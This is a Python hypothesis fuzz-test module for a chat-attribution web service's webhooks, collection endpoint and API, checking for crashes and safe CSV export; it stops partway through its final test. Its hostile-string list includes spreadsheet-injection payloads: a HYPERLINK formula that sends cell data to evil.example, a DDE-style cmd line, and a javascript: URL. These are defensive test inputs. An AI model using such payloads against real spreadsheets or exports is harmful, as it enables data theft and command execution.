"""Every public endpoint fuzzed with hypothesis over a real server process.

Oversized bodies, wrong content types, broken encodings, huge and deeply nested JSON, unknown fields,
strange query strings: the answer is a 2xx/3xx, or a 4xx whose JSON body says why (`{"error": ...}`).
Never a 5xx, never a hang (every request has a timeout). Bodies are signed with the right secrets where
an endpoint checks signatures, so the fuzz reaches the parsers behind them (and unsigned ones are refused).

Deterministic: `derandomize=True`, no example database; the example counts keep the module near 20 s.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import hashlib
import hmac
import io
import itertools
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode
from zoneinfo import ZoneInfo

import pytest
import requests
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from twilio.request_validator import RequestValidator

from bot.alerts import plain_alert, render_alert
from reports.card import DialogCard
from reports.render import render_card
from tests.conftest import TWILIO_TOKEN, free_port
from tests.test_api import FILTERED_ENDPOINTS
from tracking.codes import check_character, format_prefill, new_code
from tracking.models import Dialog
from tracking.pages import DEFAULT_PAGE_PARAMS, page_key

ROOT = Path(__file__).resolve().parent.parent
TIMEOUT = 10.0  # seconds: any request taking longer counts as a hang
MAX_BODY = 256 * 1024  # the server's cap on request bodies (webhooks.app.MAX_BODY)
META_SECRET = "meta-app-secret"
GREENAPI_TOKEN = "greenapi-webhook-token"
GENERIC_SECRET = "generic-webhook-secret"
API_TOKEN = "api-token-for-fuzz"
TELEGRAM_SECRET = "telegram-webhook-secret"

FUZZ = settings(
    max_examples=60,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.function_scoped_fixture],
)


@dataclass
class Server:
    url: str
    process: subprocess.Popen[bytes]
    log: Path
    http: requests.Session

    def request(
        self, method: str, path: str, *, body: bytes | None = None, headers: dict[str, str] | None = None
    ) -> requests.Response:
        try:
            return self.http.request(method, self.url + path, data=body, headers=headers or {}, timeout=TIMEOUT)
        except requests.Timeout:
            pytest.fail(f"{method} {path}: no answer within {TIMEOUT} s (a hang)")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    workdir = tmp_path_factory.mktemp("fuzz")
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    env = {k: v for k, v in os.environ.items() if not k.startswith("CHATTRACK_")}
    env.update(
        {
            "PYTHONPATH": str(ROOT),
            "CHATTRACK_DATABASE_URL": f"sqlite:///{workdir / 'fuzz.db'}",
            "CHATTRACK_PUBLIC_URL": url,
            "CHATTRACK_TRACKED_NUMBERS": "+7 999 123-45-67",
            "CHATTRACK_TWILIO_AUTH_TOKEN": TWILIO_TOKEN,
            "CHATTRACK_META_APP_SECRET": META_SECRET,
            "CHATTRACK_META_VERIFY_TOKEN": "meta-verify-token",
            "CHATTRACK_GREENAPI_WEBHOOK_TOKEN": GREENAPI_TOKEN,
            "CHATTRACK_GENERIC_WEBHOOK_SECRET": GENERIC_SECRET,
            "CHATTRACK_API_TOKEN": API_TOKEN,
            # The bot in webhook mode serves /telegram/webhook; its Bot API is a closed port (never needed).
            "CHATTRACK_TELEGRAM_BOT_TOKEN": "123456:TEST-token",
            "CHATTRACK_TELEGRAM_OWNER_IDS": "1001",
            "CHATTRACK_TELEGRAM_API_URL": f"http://127.0.0.1:{free_port()}",
            "CHATTRACK_TELEGRAM_WEBHOOK_SECRET": TELEGRAM_SECRET,
            "CHATTRACK_COLLECT_RATE_PER_MINUTE": "1000000",  # the fuzz is one address; the limit has its own test
        }
    )
    log = workdir / "server.log"
    with log.open("wb") as out:
        process = subprocess.Popen(
            [sys.executable, "-m", "webhooks.cli", "serve", "--port", str(port)],
            env=env,
            cwd=workdir,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    http = requests.Session()
    running = Server(url, process, log, http)
    try:
        deadline = time.monotonic() + 30
        while True:  # poll /healthz: each attempt is a connection, bounded by the deadline
            assert process.poll() is None, log.read_text(errors="replace")[-3000:]
            assert time.monotonic() < deadline, "the server did not become ready"
            with contextlib.suppress(requests.ConnectionError, requests.Timeout):
                if http.get(url + "/healthz", timeout=1).status_code == 200:
                    break
        yield running
    finally:
        http.close()
        process.send_signal(signal.SIGINT)
        try:
            process.wait(timeout=15)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def check_answer(response: requests.Response, what: str) -> None:
    """Never a 5xx; a 4xx says why, as JSON {"error": "..."}."""
    if currently_in_test_context():
        event(f"HTTP {response.status_code}")  # pytest --hypothesis-show-statistics: how deep the fuzz got
    assert response.status_code < 500, f"{what}: {response.status_code} {response.text[:300]!r}"
    if 400 <= response.status_code < 500:
        try:
            body = response.json()
        except ValueError:
            pytest.fail(f"{what}: {response.status_code} without a JSON reason: {response.text[:200]!r}")
        assert isinstance(body, dict) and isinstance(body.get("error"), str) and body["error"], (what, body)


# strategies ---------------------------------------------------------------------------------------


def often(usual: list[Any], other: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """One of the `usual` values three times in four, else anything from `other`: enough well-formed
    input gets past validation to exercise what lies behind it."""
    return st.one_of(st.sampled_from(usual), st.sampled_from(usual), st.sampled_from(usual), other)


json_scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=12), inner, max_size=5),
    max_leaves=30,
)


DEPTHS = [100, 1_000, 10_000, 100_000]


@st.composite
def nested(draw: st.DrawFn, depths: list[int] = DEPTHS) -> bytes:
    """JSON nested far deeper than any parser's recursion limit, closed or not."""
    depth = draw(st.sampled_from(depths))
    opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
    closed = draw(st.booleans())
    return (opener * depth + ("1" + closer * depth if closed else "")).encode()


@st.composite
def huge(draw: st.DrawFn) -> bytes:
    """A large but well-formed document, under or over the size cap."""
    size = draw(st.sampled_from([MAX_BODY // 2, MAX_BODY - 100, MAX_BODY + 1, 4 * MAX_BODY]))
    kind = draw(st.sampled_from(["string", "array", "object"]))
    if kind == "string":
        return json.dumps({"object": "x" * size}).encode()
    if kind == "array":
        return json.dumps({"entry": [0] * (size // 2)}).encode()
    return json.dumps({f"k{i}": i for i in range(size // 12)}).encode()


def broken_encodings() -> st.SearchStrategy[bytes]:
    texts = st.text(max_size=60)
    return st.one_of(
        st.binary(max_size=300),
        texts.map(lambda t: b"\xff\xfe" + t.encode("utf-16-le")),
        texts.map(lambda t: t.encode("utf-8") + b"\xc3"),  # cut in the middle of a character
        texts.map(lambda t: json.dumps({"text": t}).encode("utf-16")),
        st.just(b'{"text": "\xe9t\xe9"}'),  # Latin-1, not UTF-8
        st.just(b"\x00" * 64),
    )


def bodies(documents: st.SearchStrategy[Any], depths: list[int] = DEPTHS) -> st.SearchStrategy[bytes]:
    """Bodies for a JSON endpoint: plausible documents with unknown fields, junk, huge, nested, broken."""
    document = documents.map(lambda d: json.dumps(d, ensure_ascii=False).encode())
    return st.one_of(
        document,
        document,
        document,
        document,
        json_values.map(lambda v: json.dumps(v).encode()),
        nested(depths),
        huge(),
        broken_encodings(),
        st.just(b""),
    )


OTHER_CONTENT_TYPES = st.sampled_from(
    [
        "application/json",
        "application/json; charset=utf-8",
        "application/json; charset=latin-1",
        "text/plain",
        "text/plain; charset=utf-16",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=xyz",
        "application/xml",
        "garbage/;;;",
        "",
    ]
)
CONTENT_TYPES = OTHER_CONTENT_TYPES
JSON_TYPES = often(["application/json"], CONTENT_TYPES)
MOSTLY = st.sampled_from([True, True, True, False])


def with_unknown_fields(base: st.SearchStrategy[dict[str, Any]]) -> st.SearchStrategy[dict[str, Any]]:
    extra = st.dictionaries(st.text(min_size=1, max_size=15), json_values, max_size=3)
    return st.builds(lambda known, more: {**more, **known}, base, extra)


text_or_junk = st.one_of(st.text(max_size=30), json_values)

# Valid visit codes, so part of the fuzz gets past validation into the store.
CODES = [p + check_character(p) for p in ("7K3M9Q", "AB12CD", "Z9Y8X7", "00AA11", "QQ77RR")]
codes = often(CODES, st.sampled_from(CODES).map(str.lower) | st.text(max_size=9))
urls = often(
    ["https://studio.example/?utm_source=yandex&utm_medium=cpc&yclid=1", "https://studio.example/кириллица"],
    st.sampled_from(["http://[::1]:99999/x", "https://" + "a" * 2000 + ".example/", "javascript:alert(1)", ""])
    | st.text(max_size=200),
)
visitors = often(["visitor-0001", "v" * 64], st.text(max_size=70))

collect_docs = with_unknown_fields(
    st.fixed_dictionaries(
        {"t": st.sampled_from(["view", "view", "click", "other"]), "c": codes, "v": visitors, "u": urls},
        optional={
            "r": urls,
            "s": st.sampled_from(["390x844", "99999x99999", "0x0"]) | text_or_junk,
            "l": st.text(max_size=200),
            "z": st.sampled_from(["Europe/Moscow", "Mars/Olympus"]) | st.text(max_size=130),
            "h": st.sampled_from(["79991234567", "+7 999", "@shop", "SHOP"]) | text_or_junk,
            "ga": text_or_junk,
            "ft": st.fixed_dictionaries({}, optional={"u": urls, "r": urls}) | json_values,
            "sl": json_values,
        },
    )
)

meta_docs = with_unknown_fields(
    st.fixed_dictionaries(
        {"object": st.sampled_from(["whatsapp_business_account", "page", ""]) | json_values},
        optional={
            "entry": st.lists(
                st.fixed_dictionaries(
                    {},
                    optional={
                        "id": text_or_junk,
                        "changes": st.lists(
                            st.fixed_dictionaries(
                                {
                                    "value": st.fixed_dictionaries(
                                        {},
                                        optional={
                                            "metadata": st.fixed_dictionaries({"display_phone_number": text_or_junk}),
                                            "contacts": st.lists(json_values, max_size=3),
                                            "messages": st.lists(
                                                st.fixed_dictionaries(
                                                    {"id": text_or_junk},
                                                    optional={
                                                        "from": text_or_junk,
                                                        "type": text_or_junk,
                                                        "timestamp": text_or_junk,
                                                        "text": st.fixed_dictionaries({"body": text_or_junk}),
                                                    },
                                                ),
                                                max_size=3,
                                            ),
                                        },
                                    )
                                },
                            ),
                            max_size=3,
                        ),
                    },
                ),
                max_size=3,
            )
        },
    )
)

greenapi_docs = with_unknown_fields(
    st.fixed_dictionaries(
        {"typeWebhook": st.sampled_from(["incomingMessageReceived", "outgoingMessageStatus"]) | text_or_junk},
        optional={
            "instanceData": st.fixed_dictionaries(
                {}, optional={"wid": text_or_junk, "typeInstance": text_or_junk, "idInstance": json_values}
            ),
            "timestamp": json_values,
            "idMessage": text_or_junk,
            "senderData": st.fixed_dictionaries(
                {}, optional={"chatId": text_or_junk, "sender": text_or_junk, "senderName": text_or_junk}
            ),
            "messageData": st.fixed_dictionaries(
                {"typeMessage": text_or_junk},
                optional={"textMessageData": st.fixed_dictionaries({"textMessage": text_or_junk})},
            ),
        },
    )
)

generic_docs = with_unknown_fields(
    st.fixed_dictionaries(
        {
            "message_id": often(["wz-1", "wz-2", "x" * 256], text_or_junk),
            "business_number": often(["+7 999 123-45-67", "@shop"], text_or_junk),
            "contact_phone": often(["+79161234567", "8 916 123 45 67"], text_or_junk),
        },
        optional={
            "messenger": often(["whatsapp", "telegram"], st.just("viber") | json_values),
            "contact_id": text_or_junk,
            "text": text_or_junk,
            "timestamp": st.sampled_from(["2026-11-27T10:15:00Z", "1764000000", "-1e300", "9999999999999"])
            | json_values,
            "platform": text_or_junk,
            "referral": json_values,
        },
    )
)

telegram_updates = with_unknown_fields(
    st.fixed_dictionaries(
        {"update_id": st.integers() | json_values},
        optional={
            "message": st.fixed_dictionaries(
                {},
                optional={
                    "message_id": json_values,
                    "date": json_values,
                    "chat": st.fixed_dictionaries({"id": json_values, "type": text_or_junk}),
                    "from": st.fixed_dictionaries(
                        {"id": json_values, "is_bot": json_values, "first_name": text_or_junk}
                    ),
                    "text": text_or_junk,
                },
            ),
            "callback_query": json_values,
        },
    )
)


def hub_signature(body: bytes, secret: str) -> str:
    return "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()


# the fuzz -----------------------------------------------------------------------------------------


@FUZZ
@given(
    body=bodies(collect_docs),
    content_type=often(["text/plain"], CONTENT_TYPES),
    origin=st.sampled_from(["", "https://x.example"]),
)
def test_collect(server: Server, body: bytes, content_type: str, origin: str) -> None:
    headers = {"Content-Type": content_type} | ({"Origin": origin} if origin else {})
    check_answer(server.request("POST", "/collect", body=body, headers=headers), f"collect {body[:60]!r}")


phones = often(
    ["whatsapp:+79161234567", "whatsapp:+79991234567", "+7 (916) 123-45-67"],
    st.sampled_from(["whatsapp:+1 555 0100", "whatsapp:", "whatsapp:abc", "", "+" + "9" * 40]) | st.text(max_size=40),
)
messages = st.text(max_size=300) | st.sampled_from(CODES).map(lambda c: format_prefill("Здравствуйте!", c, "код"))
twilio_forms = with_unknown_fields(
    st.fixed_dictionaries(
        {"MessageSid": often(["SM" + "0" * 32, "SM" + "f" * 32], st.text(max_size=40)), "From": phones, "To": phones},
        optional={
            "Body": messages,
            "WaId": st.sampled_from(["79161234567", ""]) | st.text(max_size=20),
            "ProfileName": st.text(max_size=100),
            "NumMedia": st.text(max_size=3),
            "ReferralSourceUrl": urls,
            "ReferralCtwaClid": st.text(max_size=50),
            "ReferralHeadline": st.text(max_size=100),
        },
    )
).map(lambda form: {key: value if isinstance(value, str) else json.dumps(value) for key, value in form.items()})


def twilio_signature(server: Server, body: bytes) -> str:
    """Signed over the fields as the server will read them (when they can be read at all)."""
    try:
        fields = parse_qsl(body.decode("utf-8"), keep_blank_values=True)
    except UnicodeDecodeError:
        fields = []
    validator = RequestValidator(TWILIO_TOKEN)
    params: dict[str, list[str]] = {}
    for key, value in fields:
        params.setdefault(key, []).append(value)

    class Multi(dict[str, list[str]]):
        def getall(self, key: str) -> list[str]:
            return self[key]

    return str(validator.compute_signature(server.url + "/webhooks/twilio", Multi(params)))


@FUZZ
@given(
    body=st.one_of(
        twilio_forms.map(lambda f: urlencode(f).encode()),
        twilio_forms.map(lambda f: urlencode(f).encode()),
        bodies(st.just({})),
        st.binary(max_size=200),
    ),
    content_type=often(["application/x-www-form-urlencoded"], CONTENT_TYPES),
    signed=st.sampled_from([True, True, True, False]),
)
def test_twilio(server: Server, body: bytes, content_type: str, signed: bool) -> None:
    headers = {"Content-Type": content_type}
    if signed:
        headers["X-Twilio-Signature"] = twilio_signature(server, body)
    response = server.request("POST", "/webhooks/twilio", body=body, headers=headers)
    check_answer(response, f"twilio {body[:60]!r}")
    if not signed:  # the signature covers the parsed fields: an unreadable form is a 400 before it
        assert response.status_code in (400, 403, 413, 415), response.status_code


@FUZZ
@given(body=bodies(meta_docs), content_type=JSON_TYPES, signed=MOSTLY)
def test_meta(server: Server, body: bytes, content_type: str, signed: bool) -> None:
    headers = {"Content-Type": content_type}
    if signed:
        headers["X-Hub-Signature-256"] = hub_signature(body, META_SECRET)
    response = server.request("POST", "/webhooks/meta", body=body, headers=headers)
    check_answer(response, f"meta {body[:60]!r}")
    if not signed:
        assert response.status_code in (403, 413, 415), response.status_code


@FUZZ
@given(
    query=st.dictionaries(
        st.sampled_from(["hub.mode", "hub.verify_token", "hub.challenge"]) | st.text(max_size=9),
        st.text(max_size=300),
        max_size=4,
    )
)
def test_meta_verification(server: Server, query: dict[str, str]) -> None:
    check_answer(server.request("GET", "/webhooks/meta?" + urlencode(query)), f"meta verify {query}")


@FUZZ
@given(body=bodies(greenapi_docs), content_type=JSON_TYPES, authorised=MOSTLY)
def test_greenapi(server: Server, body: bytes, content_type: str, authorised: bool) -> None:
    headers = {"Content-Type": content_type}
    if authorised:
        headers["Authorization"] = f"Bearer {GREENAPI_TOKEN}"
    response = server.request("POST", "/webhooks/greenapi", body=body, headers=headers)
    check_answer(response, f"greenapi {body[:60]!r}")
    if not authorised:
        assert response.status_code in (403, 413), response.status_code


@FUZZ
@given(
    body=bodies(generic_docs),
    content_type=JSON_TYPES,
    signed=MOSTLY,
    timestamp=often([None, "now"], st.sampled_from(["", "abc", "-1", "1e9", "99999999999999999999"])),
)
def test_generic(server: Server, body: bytes, content_type: str, signed: bool, timestamp: str | None) -> None:
    headers = {"Content-Type": content_type}
    if timestamp == "now":
        timestamp = str(int(time.time()))
    if timestamp is not None:
        headers["X-Chattrack-Timestamp"] = timestamp
    if signed:
        signed_bytes = (f"{timestamp}.".encode() + body) if timestamp is not None else body
        headers["X-Chattrack-Signature"] = hub_signature(signed_bytes, GENERIC_SECRET)
    response = server.request("POST", "/webhooks/generic", body=body, headers=headers)
    check_answer(response, f"generic {body[:60]!r}")
    if not signed:
        assert response.status_code in (403, 413, 415), response.status_code


API_PATHS = [*FILTERED_ENDPOINTS, "/api/openapi.yaml"]
API_PARAMS = [
    "period",
    "probable",
    "limit",
    "kind",
    "by",
    "bucket",
    "top",
    "a",
    "b",
    "cursor",
    "lang",
    "sep",
    "channel",
    "source",
    "tag",
    "taken_by",
    "customer",
    "status",
    "region",
]
API_VALUES = st.sampled_from(
    [
        "today",
        "week",
        "last month",
        "2026-11-01..2026-11-15",
        "2026-W53",
        "2026-Q5",
        "0",
        "-1",
        "10000",
        "true",
        "previous",
        "year_ago",
        "repeat",
        "customer",
        "channel",
        "tag",
        "day",
        "quarter",
        "ru",
        "semicolon",
        "1e3",
        "٣",
        "9" * 40,
    ]
) | st.text(max_size=250)


@FUZZ
@given(
    path=st.sampled_from(API_PATHS) | st.text(max_size=70).map(lambda t: "/api/dialogs/" + t),
    query=st.lists(st.tuples(st.sampled_from(API_PARAMS) | st.text(max_size=8), API_VALUES), max_size=4),
    auth=st.sampled_from([f"Bearer {API_TOKEN}", f"Bearer {API_TOKEN}", "Bearer wrong", "Basic eA==", ""]),
)
def test_api(server: Server, path: str, query: list[tuple[str, str]], auth: str) -> None:
    headers = {"Authorization": auth} if auth else {}
    quoted = requests.utils.quote(path, safe="/")
    response = server.request("GET", quoted + ("?" + urlencode(query) if query else ""), headers=headers)
    check_answer(response, f"api {path} {query}")
    if auth != f"Bearer {API_TOKEN}" and path != "/api/openapi.yaml":
        assert response.status_code in (401, 404), response.status_code


# Deeper JSON makes aiogram's json.loads raise RecursionError: see the nested-JSON test below.
@FUZZ
@given(body=bodies(telegram_updates, depths=[100]), content_type=JSON_TYPES)
def test_telegram_webhook(server: Server, body: bytes, content_type: str) -> None:
    headers = {"Content-Type": content_type, "X-Telegram-Bot-Api-Secret-Token": TELEGRAM_SECRET}
    check_answer(server.request("POST", "/telegram/webhook", body=body, headers=headers), f"telegram {body[:60]!r}")


def test_telegram_webhook_answers_deeply_nested_json_with_a_400(server: Server) -> None:
    headers = {"Content-Type": "application/json", "X-Telegram-Bot-Api-Secret-Token": TELEGRAM_SECRET}
    for depth in DEPTHS[1:]:
        response = server.request("POST", "/telegram/webhook", body=b"[" * depth, headers=headers)
        check_answer(response, f"telegram nested {depth}")


def test_telegram_webhook_refuses_a_wrong_secret_with_a_reason(server: Server) -> None:
    update = json.dumps({"update_id": 1}).encode()
    for secret in ["", "wrong"]:
        headers = {"Content-Type": "application/json", "X-Telegram-Bot-Api-Secret-Token": secret}
        response = server.request("POST", "/telegram/webhook", body=update, headers=headers)
        assert response.status_code in (401, 403)
        check_answer(response, f"telegram secret {secret!r}")


@FUZZ
@given(
    method=st.sampled_from(["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"]),
    path=st.sampled_from(
        [
            "/collect",
            "/t.js",
            "/healthz",
            "/metrics",
            "/webhooks/twilio",
            "/webhooks/meta",
            "/webhooks/greenapi",
            "/webhooks/generic",
            "/telegram/webhook",
            "/api/dialogs",
        ]
    )
    | st.text(max_size=40).map(lambda t: "/" + t),
    body=st.none() | st.binary(max_size=100),
)
def test_any_method_on_any_path(server: Server, method: str, path: str, body: bytes | None) -> None:
    response = server.request(method, requests.utils.quote(path, safe="/"), body=body)
    if method == "HEAD":  # no body to carry a reason
        assert response.status_code < 500
    else:
        check_answer(response, f"{method} {path}")


# well-formed deliveries with odd values: these get past validation, into ingest and the store ----------


def accepted(server: Server, route: str) -> float:
    """Requests answered 200 on `route` so far, from the server's own /metrics."""
    prefix = f'chattrack_http_requests_total{{route="{route}",status="200"}} '
    metrics = server.request("GET", "/metrics", headers={"Authorization": f"Bearer {API_TOKEN}"})
    for line in metrics.text.splitlines():
        if line.startswith(prefix):
            return float(line.removeprefix(prefix))
    return 0.0


def reaches_the_store(route: str) -> Any:
    """Run the decorated fuzz, then check that some of its requests were accepted (so the fuzz went deep)."""

    def wrap(fuzz: Any) -> Any:
        def test(server: Server) -> None:
            before = accepted(server, route)
            fuzz(server)
            assert accepted(server, route) > before, f"no well-formed request to {route} was accepted"

        test.__name__ = fuzz.__name__
        test.__doc__ = fuzz.__doc__
        return test

    return wrap


any_text = st.text(max_size=300) | st.text(st.characters(codec="utf-8"), max_size=2000)
extra_fields = st.dictionaries(st.text(min_size=1, max_size=15), json_values, max_size=3)


@reaches_the_store("/collect")
@FUZZ
@given(
    kind=st.sampled_from(["view", "click"]),
    code=st.sampled_from(CODES),
    visitor=st.sampled_from(["visitor-0001", "v" * 64, "abc_DEF-123"]),
    fields=st.fixed_dictionaries(
        {"u": urls},  # URLs are checked (mostly well-formed ones here, so the fuzz reaches the store)
        optional={
            "r": urls | st.just(""),
            "l": st.text(max_size=128),
            "z": st.text(max_size=128),
            "h": st.sampled_from(["79991234567", "@shop"]) | st.text(max_size=128),
            "s": st.sampled_from(["390x844", "1x1"]),
            "sl": st.integers(0, 10_000),
        },
    ),
    extra=extra_fields,
)
def test_collect_well_formed(
    server: Server, kind: str, code: str, visitor: str, fields: dict[str, Any], extra: dict[str, Any]
) -> None:
    payload = {**extra, **fields, "t": kind, "c": code, "v": visitor}
    body = json.dumps(payload, ensure_ascii=False).encode()
    response = server.request("POST", "/collect", body=body, headers={"Content-Type": "text/plain"})
    check_answer(response, f"collect {payload}")


# hostile URLs and strings through /collect to a dialog, its card, its lead alert and the CSV export ------

hostile_text = st.one_of(
    st.text(max_size=40),
    st.text(st.characters(codec="utf-8"), max_size=40),
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?"&A1,"x")',
            "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0",
            "+79161234567",
            "\t=1+2",
            "\r=1+2",
            "\u202eevil\u2066",
            "a\u200bb",
            "a\nb",
            "\x00",
            "<b>&amp;</b>",
            "%",
            "%zz",
            "[",
            "]:",
            "#",
            "?",
            "@",
            "\\",
            "x" * 3000,
        ]
    ),
)
hostile_hosts = often(
    ["studio.example", "STUDIO.example", "[2001:db8::1]:8080", "студия.рф", "127.0.0.1:8080"],
    st.sampled_from(
        [
            "[::1]",
            "[",
            "[::1",
            "[v1.x]",
            "[127.0.0.1]",
            "user:pass@studio.example",
            "studio.example:99999",
            "studio.example:0",
            "studio.example:-1",
            "a" * 300,
            "",
        ]
    )
    | hostile_text,
)
UTM_KEYS = ["utm_source", "utm_medium", "utm_campaign", "utm_content", "utm_term", "gclid", "yclid", "from"]


@st.composite
def hostile_urls(draw: st.DrawFn) -> str:
    """URL-shaped strings: a scheme, a host and a path, each well-formed or not, and UTM tags whose values
    are formulas, markup and control characters, written raw or percent-encoded."""
    other_schemes = st.sampled_from(["android-app", "javascript", "file", ""]) | hostile_text
    scheme = draw(often(["https", "http", "HTTP"], other_schemes))
    separator = draw(often(["://"], st.sampled_from([":", ":///", "//"])))
    tags = draw(st.lists(st.tuples(st.sampled_from(UTM_KEYS), hostile_text), max_size=4))
    encode = draw(st.booleans())
    query = urlencode(tags) if encode else "&".join(f"{key}={value}" for key, value in tags)
    path = draw(hostile_text)
    return f"{scheme}{separator}{draw(hostile_hosts)}/{quote(path) if encode else path}" + (
        "?" + query if query else ""
    )


contacts_seen = itertools.count()
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@reaches_the_store("/collect")
@FUZZ
@given(
    page=hostile_urls() | urls,
    referrer=st.none() | hostile_urls() | urls,
    click_page=hostile_urls() | urls,
    language=hostile_text,
    zone=hostile_text,
    name=hostile_text,
    text=hostile_text,
)
def test_hostile_urls_and_strings_from_collect_render_everywhere(
    server: Server,
    page: str,
    referrer: str | None,
    click_page: str,
    language: str,
    zone: str,
    name: str,
    text: str,
) -> None:
    """Whatever /collect accepts is a visit that a lead's dialog, its card, its alert and the CSV export
    all render; whatever it refuses is a 4xx with a reason. Never a 5xx."""
    code, visitor = new_code(), "visitor-hostile-01"
    view = {"t": "view", "c": code, "v": visitor, "u": page, "r": referrer, "l": language, "z": zone}
    view["ft"] = {"u": page, "r": referrer}
    headers = {"Content-Type": "text/plain"}
    answer = server.request("POST", "/collect", body=json.dumps(view, ensure_ascii=False).encode(), headers=headers)
    check_answer(answer, f"collect view {view}")
    assert answer.status_code in (200, 400, 413, 429), answer.status_code
    if answer.status_code != 200:
        return
    click = {"t": "click", "c": code, "v": visitor, "u": click_page, "h": "79991234567"}
    clicked = server.request("POST", "/collect", body=json.dumps(click, ensure_ascii=False).encode(), headers=headers)
    check_answer(clicked, f"collect click {click}")
    assert clicked.status_code in (200, 400, 413, 429), clicked.status_code

    # A lead writes with this visit's code: the dialog takes the visit's attribution.
    posted = {
        "message_id": f"hostile-{code}",
        "business_number": "+7 999 123-45-67",
        "contact_phone": f"+7916{next(contacts_seen):07d}",
        "contact_name": name.strip()[:256] or "—",
        "text": format_prefill(text[:500], code, "код"),
    }
    body = json.dumps(posted, ensure_ascii=False).encode()
    signed = {"Content-Type": "application/json", "X-Chattrack-Signature": hub_signature(body, GENERIC_SECRET)}
    message = server.request("POST", "/webhooks/generic", body=body, headers=signed)
    check_answer(message, f"generic {posted}")
    assert message.status_code == 200 and message.json()["status"] == "exact", message.text[:300]
    dialog_id = message.json()["dialog"]

    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    card = server.request("GET", f"/api/dialogs/{dialog_id}", headers=auth)
    check_answer(card, f"card of {dialog_id}")
    assert card.status_code == 200
    dialog = Dialog.model_validate(card.json()["dialog"])
    # Stored as its page key (no tracking parameters); the visit keeps the URL as the browser sent it.
    assert dialog.attribution.landing_page == page_key(page, frozenset(DEFAULT_PAGE_PARAMS))
    for lang in ("ru", "en"):  # the renderers the bot uses for the lead alert and the card
        assert render_alert(dialog, lang)
        assert plain_alert(dialog, lang)
        assert render_card(DialogCard(dialog, [], ZoneInfo("Europe/Moscow")), lang)

    export = server.request("GET", "/api/dialogs.csv?period=today&format=machine", headers=auth)
    check_answer(export, "dialogs.csv")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"), newline="")))
    (row,) = [row for row in rows if row["id"] == dialog_id]
    assert not [value for value in row.values() if value.startswith(FORMULA_STARTS)], row


@reaches_the_store("/webhooks/twilio")
@FUZZ
@given(
    sid=st.text(st.characters(codec="utf-8"), min_size=1, max_size=64),
    sender=phones,
    body=any_text | messages,
    extra=st.dictionaries(st.text(min_size=1, max_size=15), st.text(max_size=50), max_size=3),
)
def test_twilio_well_formed(server: Server, sid: str, sender: str, body: str, extra: dict[str, str]) -> None:
    form = {**extra, "MessageSid": sid, "From": sender, "To": "whatsapp:+79991234567", "Body": body}
    encoded = urlencode(form).encode()
    headers = {
        "Content-Type": "application/x-www-form-urlencoded",
        "X-Twilio-Signature": twilio_signature(server, encoded),
    }
    check_answer(server.request("POST", "/webhooks/twilio", body=encoded, headers=headers), f"twilio {form}")


@reaches_the_store("/webhooks/meta")
@FUZZ
@given(
    message=st.fixed_dictionaries(
        {
            "id": st.text(min_size=1, max_size=256),
            "from": st.sampled_from(["79161234567", "1555010"]) | st.text(max_size=20),
        },
        optional={
            "type": st.sampled_from(["text", "image", "button", "interactive", "reaction", "system"])
            | st.text(max_size=20),
            "timestamp": st.sampled_from(["1764000000", "0", "-1", "99999999999999"]) | st.text(max_size=20),
            "text": st.fixed_dictionaries({"body": any_text}),
            "referral": st.dictionaries(
                st.sampled_from(["source_url", "ctwa_clid", "headline", "source_type"]), st.text(max_size=100)
            ),
            "context": json_values,
        },
    ),
    contacts=st.lists(
        st.fixed_dictionaries({}, optional={"wa_id": st.text(max_size=20), "profile": json_values}), max_size=2
    ),
    extra=extra_fields,
)
def test_meta_well_formed(server: Server, message: dict[str, Any], contacts: list[Any], extra: dict[str, Any]) -> None:
    value = {
        "messaging_product": "whatsapp",
        "metadata": {"display_phone_number": "79991234567"},
        "contacts": contacts,
        "messages": [{**extra, **message}],
    }
    delivery = {
        "object": "whatsapp_business_account",
        "entry": [{"id": "1", "changes": [{"field": "messages", "value": value}]}],
    }
    body = json.dumps(delivery, ensure_ascii=False).encode()
    headers = {"Content-Type": "application/json", "X-Hub-Signature-256": hub_signature(body, META_SECRET)}
    check_answer(server.request("POST", "/webhooks/meta", body=body, headers=headers), f"meta {message}")


@reaches_the_store("/webhooks/greenapi")
@FUZZ
@given(
    id_message=st.text(min_size=1, max_size=256),
    chat=st.sampled_from(["79161234567@c.us", "120363@g.us"]) | st.text(max_size=40),
    kind=st.sampled_from(["textMessage", "extendedTextMessage", "imageMessage", "reactionMessage"])
    | st.text(max_size=20),
    text=any_text,
    timestamp=st.none() | st.integers(min_value=-(2**63), max_value=2**63),
    extra=extra_fields,
)
def test_greenapi_well_formed(
    server: Server, id_message: str, chat: str, kind: str, text: str, timestamp: int | None, extra: dict[str, Any]
) -> None:
    notification = {
        **extra,
        "typeWebhook": "incomingMessageReceived",
        "instanceData": {"idInstance": 1101, "wid": "79991234567@c.us", "typeInstance": "whatsapp"},
        "timestamp": timestamp,
        "idMessage": id_message,
        "senderData": {"chatId": chat, "sender": chat, "senderName": text[:20]},
        "messageData": {
            "typeMessage": kind,
            "textMessageData": {"textMessage": text},
            "extendedTextMessageData": {"text": text},
        },
    }
